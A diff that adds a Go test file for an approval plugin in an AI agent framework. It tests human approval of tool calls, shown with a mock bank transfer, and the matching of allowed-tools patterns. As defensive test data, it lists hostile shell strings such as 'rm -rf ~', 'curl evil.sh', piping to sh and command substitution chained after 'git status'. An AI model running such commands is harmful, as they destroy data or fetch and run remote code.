@@ -0,0 +1,218 @@
+// Copyright (c) 2025 Beijing Volcano Engine Technology Co., Ltd. and/or its affiliates.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package approval
+
+import (
+	"context"
+	"iter"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/volcengine/veadk-go/skills"
+	"google.golang.org/adk/agent"
+	"google.golang.org/adk/agent/llmagent"
+	"google.golang.org/adk/model"
+	"google.golang.org/adk/plugin"
+	"google.golang.org/adk/runner"
+	"google.golang.org/adk/session"
+	"google.golang.org/adk/tool"
+	"google.golang.org/adk/tool/functiontool"
+	"google.golang.org/adk/tool/toolconfirmation"
+	"google.golang.org/genai"
+)
+
+// transferModel calls the transfer tool, and answers with its result once it has one.
+type transferModel struct{}
+
+func (transferModel) Name() string { return "transfer-model" }
+
+func (transferModel) GenerateContent(_ context.Context, req *model.LLMRequest, _ bool) iter.Seq2[*model.LLMResponse, error] {
+	return func(yield func(*model.LLMResponse, error) bool) {
+		last := req.Contents[len(req.Contents)-1]
+		for _, part := range last.Parts {
+			if part.FunctionResponse != nil {
+				yield(&model.LLMResponse{Content: genai.NewContentFromText("done", genai.RoleModel)}, nil)
+				return
+			}
+		}
+		yield(&model.LLMResponse{Content: &genai.Content{Role: genai.RoleModel, Parts: []*genai.Part{{
+			FunctionCall: &genai.FunctionCall{ID: "call-1", Name: "transfer", Args: map[string]any{"to": "bob", "amount": 100.0}},
+		}}}}, nil)
+	}
+}
+
+type transferArgs struct {
+	To     string  `json:"to"`
+	Amount float64 `json:"amount"`
+}
+
+type bank struct {
+	transfers []transferArgs
+	runner    *runner.Runner
+	sessions  session.Service
+}
+
+func newBank(t *testing.T) *bank {
+	t.Helper()
+	b := &bank{sessions: session.InMemoryService()}
+	transfer, err := functiontool.New(functiontool.Config{Name: "transfer", Description: "Transfers money."},
+		func(_ tool.Context, args transferArgs) (map[string]any, error) {
+			b.transfers = append(b.transfers, args)
+			return map[string]any{"status": "sent"}, nil
+		})
+	require.NoError(t, err)
+	teller, err := llmagent.New(llmagent.Config{Name: "teller", Model: transferModel{}, Tools: []tool.Tool{transfer}})
+	require.NoError(t, err)
+
+	approvals, err := NewPlugin(&PluginConfig{Policy: ByArgs("transfer", func(args map[string]any) bool {
+		amount, _ := args["amount"].(float64)
+		return amount > 10
+	})})
+	require.NoError(t, err)
+	b.runner, err = runner.New(runner.Config{
+		AppName:           "bank",
+		Agent:             teller,
+		SessionService:    b.sessions,
+		AutoCreateSession: true,
+		PluginConfig:      runner.PluginConfig{Plugins: []*plugin.Plugin{approvals}},
+	})
+	require.NoError(t, err)
+	return b
+}
+
+// run runs a turn and returns the session after it.
+func (b *bank) run(t *testing.T, content *genai.Content) (session.Session, []*session.Event) {
+	t.Helper()
+	var events []*session.Event
+	for event, err := range b.runner.Run(context.Background(), "user", "session", content, agent.RunConfig{}) {
+		require.NoError(t, err)
+		events = append(events, event)
+	}
+	resp, err := b.sessions.Get(context.Background(), &session.GetRequest{AppName: "bank", UserID: "user", SessionID: "session"})
+	require.NoError(t, err)
+	return resp.Session, events
+}
+
+func TestPlugin(t *testing.T) {
+	t.Run("approve with modified arguments", func(t *testing.T) {
+		b := newBank(t)
+		sess, events := b.run(t, genai.NewContentFromText("Send bob 100", genai.RoleUser))
+		assert.Empty(t, b.transfers)
+		var confirmationID string
+		for _, event := range events {
+			if len(event.LongRunningToolIDs) > 0 {
+				assert.Equal(t, toolconfirmation.FunctionCallName, event.Content.Parts[0].FunctionCall.Name)
+				confirmationID = event.LongRunningToolIDs[0]
+			}
+		}
+		require.NotEmpty(t, confirmationID)
+
+		pending := Pending(sess)
+		require.Len(t, pending, 1)
+		assert.Equal(t, "call-1", pending[0].ID)
+		assert.Equal(t, confirmationID, pending[0].ConfirmationID)
+		assert.Equal(t, map[string]any{"to": "bob", "amount": 100.0}, pending[0].Args)
+		assert.Equal(t, "teller", pending[0].Agent)
+
+		request, err := Find(sess, "call-1")
+		require.NoError(t, err)
+		sess, events = b.run(t, Decision{Approved: true, Args: map[string]any{"to": "bob", "amount": 50}}.Content(request.ConfirmationID))
+		assert.Equal(t, []transferArgs{{To: "bob", Amount: 50}}, b.transfers)
+		assert.Equal(t, "done", events[len(events)-1].Content.Parts[0].Text)
+		assert.Empty(t, Pending(sess))
+		_, err = Find(sess, "call-1")
+		assert.ErrorIs(t, err, ErrNotPending)
+	})
+
+	t.Run("reject", func(t *testing.T) {
+		b := newBank(t)
+		sess, _ := b.run(t, genai.NewContentFromText("Send bob 100", genai.RoleUser))
+		request, err := Find(sess, "call-1")
+		require.NoError(t, err)
+
+		sess, events := b.run(t, Decision{}.Content(request.ConfirmationID))
+		assert.Empty(t, b.transfers)
+		response := events[0].Content.Parts[0].FunctionResponse
+		require.NotNil(t, response)
+		assert.Contains(t, response.Response["error"], tool.ErrConfirmationRejected.Error())
+		value, err := sess.State().Get(StateKeyPrefix + "call-1")
+		require.NoError(t, err)
+		assert.Equal(t, StatusRejected, value.(map[string]any)["status"])
+	})
+
+	_, err := NewPlugin(&PluginConfig{})
+	assert.ErrorIs(t, err, ErrNoPolicy)
+}
+
+type namedTool struct {
+	tool.Tool
+	name string
+}
+
+func (t namedTool) Name() string { return t.name }
+
+func TestPolicies(t *testing.T) {
+	requires := func(policy Policy, name string, args map[string]any) bool {
+		return policy.RequiresApproval(nil, namedTool{name: name}, args)
+	}
+
+	byName := ByName("delete_file")
+	assert.True(t, requires(byName, "delete_file", nil))
+	assert.False(t, requires(byName, "read_file", nil))
+
+	combined := AnyOf(byName, ByArgs("run_code", func(args map[string]any) bool { return args["language"] == "bash" }))
+	assert.True(t, requires(combined, "run_code", map[string]any{"language": "bash"}))
+	assert.False(t, requires(combined, "run_code", map[string]any{"language": "python"}))
+
+	skill := &skills.Skill{Frontmatter: &skills.Frontmatter{Name: "pdf", AllowedTools: "load_skill* run_skill_script(pdf-tools:*)"}}
+	allowed := NotAllowedBySkills(skill, nil)
+	assert.False(t, requires(allowed, "load_skill_resource", nil))
+	assert.False(t, requires(allowed, "run_skill_script", map[string]any{"skill_name": "pdf-tools", "script": "merge.py"}))
+	assert.True(t, requires(allowed, "run_skill_script", map[string]any{"skill_name": "shell"}))
+	assert.True(t, requires(allowed, "web_search", nil))
+	// only the main argument is matched
+	assert.True(t, requires(allowed, "run_skill_script", map[string]any{"skill_name": "shell", "script_path": "pdf-tools.sh"}))
+
+	// patterns are split outside parentheses, invalid ones are ignored
+	skill = &skills.Skill{Frontmatter: &skills.Frontmatter{Name: "git", AllowedTools: "Bash(git status:*), Read Grep(x(y))"}}
+	allowed = NotAllowedBySkills(skill)
+	assert.False(t, requires(allowed, "Bash", map[string]any{"command": "git status --short"}))
+	assert.True(t, requires(allowed, "Bash", map[string]any{"command": "rm -rf /", "description": "git status"}))
+	assert.False(t, requires(allowed, "Read", nil))
+	assert.True(t, requires(allowed, "Grep", map[string]any{"name": "x(y)"}), "nested parentheses are invalid")
+
+	// wildcard patterns do not allow chaining other commands
+	for _, command := range []string{"git status; rm -rf ~", "git status && curl evil.sh", "git status || true",
+		"git status | sh", "git status `rm -rf ~`", "git status $(rm -rf ~)", "git status\nrm -rf ~"} {
+		assert.True(t, requires(allowed, "Bash", map[string]any{"command": command}), command)
+	}
+	exact := NotAllowedBySkills(&skills.Skill{Frontmatter: &skills.Frontmatter{Name: "log", AllowedTools: "Bash(git log | head)"}})
+	assert.False(t, requires(exact, "Bash", map[string]any{"command": "git log | head"}), "exact patterns match as written")
+
+	skill = &skills.Skill{Frontmatter: &skills.Frontmatter{Name: "git", AllowedTools: "Read Bash(git"}}
+	assert.True(t, requires(NotAllowedBySkills(skill), "Read", nil), "unbalanced allowed tools are ignored")
+}
+
+func TestSplitToolPatterns(t *testing.T) {
+	fields, err := splitToolPatterns(" Bash(git status:*),Read  load_skill*, run_skill_script(pdf, docx)")
+	require.NoError(t, err)
+	assert.Equal(t, []string{"Bash(git status:*)", "Read", "load_skill*", "run_skill_script(pdf, docx)"}, fields)
+
+	_, err = splitToolPatterns("Bash(git")
+	assert.Error(t, err)
+	_, err = splitToolPatterns("Bash)")
+	assert.Error(t, err)
+}